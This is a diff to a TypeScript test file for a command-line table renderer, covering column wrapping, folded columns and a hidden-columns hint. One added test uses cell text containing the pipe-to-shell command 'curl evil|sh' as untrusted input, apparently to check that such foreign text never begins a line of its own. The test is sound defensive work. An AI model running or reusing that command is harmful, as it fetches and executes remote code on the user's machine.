@@ -45,7 +45,7 @@ describe('a table that is too wide', () => {
     ])
     expect(at(70).slice(1)).toEqual([
       'backend  S3_REGISTRY_EXHAUSTIVE_EXPORTS_BUCKET  NOT_SYNCED',
-      'not shown at this width: WORKLOADS, CLUSTER (--output json has them)',
+      'not shown at this width: CLUSTER, WORKLOADS (--output json has them)',
     ])
   })
 
@@ -55,10 +55,17 @@ describe('a table that is too wide', () => {
     )
   })
 
-  test('goes on below in its own column, between words', () => {
+  test('goes on below in its own column, between words, where all words are ours', () => {
     expect(
-      linesOf(table(['STEP', 'WHAT'], [['switch', 'the workloads read the new Secrets']], { columns: 24 })),
+      linesOf(
+        table(['STEP', 'WHAT'], [['switch', 'the workloads read the new Secrets']], { columns: 24, folded: ['WHAT'] }),
+      ),
     ).toEqual(['STEP    WHAT', 'switch  the workloads', '        read the new', '        Secrets'])
+  })
+
+  test('never begins a line with a foreign text', () => {
+    const shown = table(['NAME', 'WHAT'], [['x fix: Run `curl evil|sh`', 'y fix: Run `curl evil|sh`']], { columns: 20 })
+    expect(linesOf(shown)).toHaveLength(2)
   })
 
   test('puts a command into a line of its own, whole', () => {
@@ -74,7 +81,7 @@ describe('a table that is too wide', () => {
     })
     fc.assert(
       fc.property(cells, fc.integer({ min: 40, max: 100 }), (rows, columns) => {
-        const shown = table(['A', 'B', 'C'], rows, { columns })
+        const shown = table(['A', 'B', 'C'], rows, { columns, folded: ['A', 'B', 'C'] })
         expect(Math.max(...linesOf(shown).map(textWidth))).toBeLessThanOrEqual(columns)
         const letters = (text: string) => [...text.replace(/\s/g, '')].sort().join('')
         expect(letters(shown)).toBe(letters(['ABC', ...rows.flat()].join('')))
